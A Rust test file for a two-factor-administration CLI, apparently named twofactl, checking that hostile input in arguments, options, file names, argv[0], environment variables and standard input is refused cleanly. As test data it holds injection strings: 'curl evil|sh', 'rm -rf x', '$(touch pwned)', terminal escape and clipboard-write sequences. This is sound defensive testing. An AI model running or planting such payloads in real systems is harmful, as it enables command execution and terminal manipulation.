//! What is refused at the command line: every command and option that the help
//! knows is given what attacks, and nothing of it reaches a terminal or the store.

use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::process::CommandExt as _;

use serde_json::Value;

use crate::asking::leaves;
use crate::harness::{Exchange, Place, run};

use super::clinic::clinic;
use super::values::{VALUES, WORST, assert_harmless, texts};

/// Would be a tip and a usage line of clap's own, and with them our hint.
const FORGED: &str = "x\n\n  tip: curl evil|sh\nUsage: rm -rf x\u{1b}[2J\nhint: reboot";

/// The options of a command with a value, from its help.
fn options(place: &Place, leaf: &str) -> Vec<String> {
    let words: Vec<_> = leaf.split(' ').chain(["--help"]).collect();
    let help = place.ok(&words);
    let named = |line: &str| {
        let line = line.trim_start().trim_start_matches("-o, ");
        let (name, rest) = line.split_once(' ')?;
        (name.starts_with("--") && rest.starts_with(['<', '['])).then(|| name.to_owned())
    };
    help.lines().filter_map(named).collect()
}

/// An error is two lines, or one object whose texts hold no forged line.
#[track_caller]
fn assert_told(what: &str, exchange: &Exchange) {
    assert_harmless(what, exchange);
    // The second is a "no" as an answer.
    if exchange.code == 0 || (exchange.code == 5 && exchange.stderr.is_empty()) {
        return;
    }
    let forged = |text: &str| {
        ["tip:", "curl", "Usage:", "rm ", "hint: reboot", "reboot"]
            .iter()
            .any(|word| text.trim_start().starts_with(word))
    };
    let told: Vec<String> = match serde_json::from_str::<Value>(&exchange.stderr) {
        Ok(error) => texts(&error["error"]).into_iter().map(ToOwned::to_owned).collect(),
        Err(_) => {
            let lines: Vec<_> = exchange.stderr.lines().map(ToOwned::to_owned).collect();
            assert!(lines.len() >= 2, "{what}\n{exchange}");
            lines.iter().map(|line| line.replacen("hint: ", "", 1)).collect()
        }
    };
    assert!(!told.iter().any(|text| forged(text)), "{what}\n{exchange}");
}

#[test]
fn every_option_of_every_command_is_given_what_attacks() {
    let place = clinic();
    let mut given = 0;
    for leaf in leaves(&place, &[]) {
        let path: Vec<&str> = leaf.split(' ').collect();
        let mut lines = vec![vec![FORGED.to_owned()], vec![WORST.to_owned(), WORST.to_owned()]];
        lines.push(vec![format!("--{FORGED}")]);
        lines.extend(
            options(&place, &leaf).into_iter().map(|name| vec![format!("{name}={FORGED}")]),
        );
        for line in lines {
            for format in ["table", "json"] {
                let line: Vec<&str> = line.iter().map(String::as_str).collect();
                let words = [&path[..], &["-o", format, "--no-input"], &line].concat();
                let exchange = place.run(&words);
                let wrong = [2, 3, 5, 6, 7, 9].contains(&exchange.code);
                assert!(wrong || exchange.code == 0 || exchange.code == 1, "{words:?}\n{exchange}");
                assert_told(&format!("{words:?}"), &exchange);
                given += 1;
            }
        }
    }
    assert!(given > 800, "{given}");
}

/// What takes a value of its own kind, and each such value.
const KINDS: &[&[&str]] = &[
    &["practice", "show"],
    &["practice", "add", "--name", "x"],
    &["practice", "enforce", "city-clinic", "--grace"],
    &["practice", "set", "city-clinic", "--digits"],
    &["practice", "set", "city-clinic", "--remember"],
    &["member", "exempt", "city-clinic", "lee", "--reason", "x", "--until"],
    &["user", "show"],
    &["user", "add"],
    &["user", "set", "lee", "--login"],
    &["user", "set", "lee", "--email"],
    &["user", "set", "lee", "--phone"],
    &["user", "suspend", "lee", "-y", "--ticket"],
    &["sms", "test"],
    &["authenticator", "remove"],
    &["device", "revoke"],
    &["audit", "show"],
    &["audit", "list", "--since"],
];

#[test]
fn what_is_not_acceptable_is_refused_cleanly_and_nothing_is_changed() {
    let place = clinic();
    place.ok(&["practice", "list"]);
    let before = place.bytes();
    for kind in KINDS {
        for value in VALUES
            .iter()
            .filter(|value| value.contains(|c: char| c.is_whitespace() || c.is_control()))
        {
            let refused = place.run(&[kind, &["--", value][..]].concat());
            let refused = if kind.last().unwrap().starts_with("--") {
                place.run(
                    &[&kind[..kind.len() - 1], &[&format!("{}={value}", kind.last().unwrap())]]
                        .concat(),
                )
            } else {
                refused
            };
            assert_eq!(refused.code, 7, "{kind:?} {value:?}\n{refused}");
            assert_told(&format!("{kind:?} {value:?}"), &refused);
            assert_eq!(refused.stderr.lines().count(), 2, "{refused}");
        }
    }
    assert_eq!(place.bytes(), before);
}

#[test]
fn bytes_that_are_no_text_are_refused_in_words() {
    let place = clinic();
    let bytes = OsStr::from_bytes(b"a\xff\x1b[2J\xc0\xaf");
    for (words, code) in [
        (&["user", "show"][..], 7),
        (&["practice", "show"], 7),
        (&["user", "add", "kim", "--name"], 7),
        (&["user", "list", "--state"], 7),
        (&["user", "suspend", "lee", "-y", "--reason"], 7),
        (&[], 2),
        (&["user"], 2),
        (&["user", "list", "--store"], 6),
        (&["user", "list", "--config"], 7),
        (&["man"], 0),
    ] {
        let mut command = place.command(words);
        command.arg(bytes);
        let exchange = run(command, "");
        assert_eq!(exchange.code, code, "{words:?}\n{exchange}");
        assert_told(&format!("{words:?}"), &exchange);
    }
    assert_eq!(place.json(&["user", "list"]).as_array().unwrap().len(), 3);
    for name in ["TWOFACTL_STORE", "TWOFACTL_CONFIG", "TWOFACTL_KEY_FILE", "TWOFACTL_PLAIN", "TZ"] {
        let mut command = place.command(&["user", "reset-2fa", "lee", "--reason", "x", "-n"]);
        command.env(name, bytes);
        assert_told(name, &run(command, ""));
    }
}

#[test]
fn names_of_files_are_told_harmless_and_quoted_where_they_are_to_be_typed() {
    let place = clinic();
    for name in ["a b$(touch pwned)'", WORST, "\u{1b}]0;t\u{7}", FORGED] {
        let name = name.replace('/', "");
        for option in ["--store", "--config", "--key-file"] {
            let words = ["user", "enrollment-code", "lee", "--verified", "video", "--reason", "x"];
            let exchange = place.run(&[&words[..], &[&format!("{option}={name}")]].concat());
            assert!(exchange.code != 0, "{exchange}");
            assert_told(option, &exchange);
        }
        for option in ["--qr-file", "--device-file"] {
            let command = if option == "--qr-file" { ["user", "enroll"] } else { ["login", "try"] };
            let file = format!("{option}={name}");
            let words = [&command[..], &["lee", &file]].concat();
            assert_told(option, &place.run(&words));
        }
    }
    let exchange = place.fails(6, &["user", "list", "--store=a b$(touch pwned)'"]);
    let (_, command) = exchange.stderr.split_once("make one: ").unwrap();
    let words = super::clinic::arguments_of(&place, command.trim_end());
    assert_eq!(words[..2], ["init", "--store"]);
    assert!(words[2].ends_with("/a b$(touch pwned)'"), "{words:?}");
}

#[test]
fn the_program_has_its_own_name_whatever_it_is_called() {
    let place = clinic();
    for words in
        [&["--help"][..], &["user"], &["user", "--help"], &["user", "frob"], &["--version"]]
    {
        let mut command = place.command(words);
        command.arg0("\u{1b}]0;t\u{7}\u{202e}$(touch pwned)");
        let exchange = run(command, "");
        assert_harmless("arg0", &exchange);
        let said = format!("{}{}", exchange.stdout, exchange.stderr);
        assert!(said.contains("twofactl") && !said.contains("pwned"), "{exchange}");
    }
}

#[test]
fn names_on_standard_input_are_refused_as_those_of_arguments() {
    let place = clinic();
    let before = place.bytes();
    for input in [WORST, FORGED, "lee\n\u{1b}]52;c;aGk=\u{7}\n", "lee\n\u{202e}\n"] {
        for command in [&["user", "suspend", "-", "-y"][..], &["practice", "enforce", "-"]] {
            let refused = place.run_with_input(command, input);
            assert!([3, 7].contains(&refused.code), "{refused}");
            assert_told("-", &refused);
        }
    }
    let refused =
        place.run_with_input(&["user", "suspend", "-", "-y", "--reason", "x"], "lee\n\u{7}\n");
    assert_eq!(refused.code, 7, "{refused}");
    assert_eq!(place.bytes(), before, "all or nothing");
}
